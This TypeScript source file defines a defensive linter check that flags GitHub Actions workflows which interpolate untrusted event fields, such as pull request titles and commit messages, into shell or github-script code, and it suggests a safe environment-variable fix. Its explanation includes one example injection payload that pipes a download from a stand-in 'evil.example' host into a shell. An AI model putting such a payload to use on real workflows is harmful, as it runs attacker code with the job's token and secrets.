import { atLine, ciModel, expressionsIn, lineInValue, usesAction } from '../../targets/ci/jobs.js';
import { asString, type YamlRecord } from '../../targets/yaml/read.js';
import type { YamlPath } from '../../targets/yaml/source.js';
import { defineCheck } from '../define.js';

/** Context paths whose value a stranger writes: titles, bodies, branch names, commit messages, emails. */
const UNTRUSTED = [
  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
  /^github\.event\.(comment|review|review_comment)\.body$/,
  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
  /^github\.event\.(head_commit|workflow_run\.head_commit)\.(message|author\.(email|name)|committer\.(email|name))$/,
  /^github\.event\.commits\.[^.]+\.(message|author\.(email|name)|committer\.(email|name))$/,
  /^github\.event\.pages\.[^.]+\.page_name$/,
  /^github\.event\.workflow_run\.(head_branch|display_title|head_repository\.description)$/,
  /^github\.head_ref$/,
  // Whole event objects, as in toJSON(github.event): they hold every field above.
  /^github\.event(\.(issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|workflow_run))?$/,
];
/** Inputs of workflow_dispatch / workflow_call: someone with write access types them, still not script text. */
const INPUT = /^(inputs|github\.event\.inputs)\.[\w-]+$/;
/** Context paths inside an expression: `github.event.commits[0].message`, `inputs.tag`. */
const CONTEXT_PATH = /\b(?:github|inputs|env)(?:\.[\w-]+|\[[^\]]*\]|\.\*)+/g;

export const expressionInjection = defineCheck({
  id: 'ci/expression-injection',
  title: 'Untrusted event fields are not interpolated into scripts',
  severity: 'high',
  target: 'ci-workflow',
  why:
    '`${{ }}` expressions are substituted into the script text before the shell runs it. A pull request title, issue ' +
    'body, comment, branch name or commit message is written by whoever opens it, so a title like ' +
    '`"; curl -sSf https://evil.example/x | sh; #` becomes shell code that runs with the job\'s token and secrets. ' +
    'The same goes for the `script:` of actions/github-script, which is JavaScript.',
  fix: [
    'Pass the value through an environment variable and quote it; the shell then treats it as data:',
    '',
    '    - name: Announce',
    '      env:',
    '        TITLE: ${{ github.event.pull_request.title }}',
    '      run: echo "Building $TITLE"',
    '',
    'In actions/github-script read `context.payload.pull_request.title` instead of interpolating it.',
  ].join('\n'),
  refs: [
    'GitHub documentation, Security hardening for GitHub Actions: understanding the risk of script injections',
    'GitHub Security Lab, Keeping your GitHub Actions and workflows secure part 2: untrusted input',
    'zizmor template-injection',
    'OWASP Top 10 CI/CD Security Risks CICD-SEC-4 (poisoned pipeline execution)',
  ],
  messages: {
    untrusted: 'step "{step}" interpolates {field} into its {place}, where anyone who opens a pull request or issue controls it',
    input: 'step "{step}" interpolates {field} into its {place}; pass it through env: instead',
  },
  peers: [{ tool: 'zizmor', rule: 'template-injection' }],
  claims: [
    {
      about: 'no expression injection in workflows', risk: true,
      names: [
        'expression injection',
        'workflow injection',
        ['script injection', 'workflow*'],
        ['script injection', 'GitHub Actions'],
        ['command injection', 'workflow*'],
        ['command injection', 'GitHub Actions'],
        ['command injection', 'CI'],
        ['shell injection', 'workflow*'],
        ['inject*', 'github.event'],
        ['inject*', 'github-script'],
        ['inject*', 'pull request title*'],
        ['inject*', 'PR title*'],
        ['inject*', 'issue title*'],
        ['inject*', 'issue body'],
        ['inject*', 'branch name*'],
        ['inject*', 'commit message*'],
        ['interpolat*', 'github.event'],
        ['interpolat*', 'run: script*'],
        ['untrusted input*', 'workflow*'],
      ],
    },
  ],
  evaluate(workflow, ctx) {
    const model = ciModel(workflow);
    if (model.jobs.length === 0) return ctx.notApplicable();
    const workflowEnv = untrustedEnv(model.env, new Map());
    const scan = (text: string, path: YamlPath, step: string, where: string, place: string, env: ReadonlyMap<string, string>) => {
      if (!text.includes('${{')) return;
      const keyLocation = workflow.at(path);
      if (keyLocation.kind !== 'file') return;
      for (const expression of expressionsIn(text)) {
        const paths = expression.text.match(CONTEXT_PATH) ?? [];
        // `${{ env.TITLE }}` is substituted like any expression: an env var bound to an untrusted field does not help.
        const untrusted = paths.flatMap((candidate) => {
          const bound = candidate.startsWith('env.') ? env.get(candidate.slice('env.'.length)) : undefined;
          if (bound !== undefined) return [`${candidate} (${bound})`];
          return isUntrusted(candidate) ? [candidate] : [];
        });
        const inputs = untrusted.length > 0 ? [] : paths.filter((candidate) => INPUT.test(candidate));
        const fields = untrusted.length > 0 ? untrusted : inputs;
        if (fields.length === 0) continue;
        const at = atLine(keyLocation, lineInValue(keyLocation.line, text, expression.offset));
        ctx.fail(at, untrusted.length > 0 ? 'untrusted' : 'input', { step, field: fields.join(', '), place, where: `${where}@${expression.offset}` });
      }
    };
    for (const job of model.jobs) {
      const jobEnv = untrustedEnv(job.env, workflowEnv);
      for (const step of job.steps) {
        const env = untrustedEnv(step.env, jobEnv);
        if (step.run !== undefined) scan(step.run, [...step.path, 'run'], step.label, step.where, 'run script', env);
        if (usesAction(step.uses, 'actions/github-script')) {
          const script = asString(step.with.script);
          if (script !== undefined) scan(script, [...step.path, 'with', 'script'], step.label, step.where, 'github-script', env);
        }
      }
    }
  },
});

function isUntrusted(path: string): boolean {
  const normalised = normalise(path);
  return UNTRUSTED.some((pattern) => pattern.test(normalised));
}

/** Env variables bound to an untrusted field, by name, layered over the outer level's. */
function untrustedEnv(env: YamlRecord, outer: ReadonlyMap<string, string>): ReadonlyMap<string, string> {
  let result: Map<string, string> | undefined;
  for (const [name, value] of Object.entries(env)) {
    const text = asString(value);
    if (text === undefined || !text.includes('${{')) {
      if (outer.has(name)) (result ??= new Map(outer)).delete(name);
      continue;
    }
    const field = expressionsIn(text)
      .flatMap((expression) => expression.text.match(CONTEXT_PATH) ?? [])
      .find(isUntrusted);
    if (field !== undefined) (result ??= new Map(outer)).set(name, field);
    else if (outer.has(name)) (result ??= new Map(outer)).delete(name);
  }
  return result ?? outer;
}

/** `github.event.commits[0].message` → `github.event.commits.0.message`; `['title']` → `.title`. */
function normalise(path: string): string {
  return path.replace(/\[['"]?([^\]'"]*)['"]?\]/g, '.$1');
}
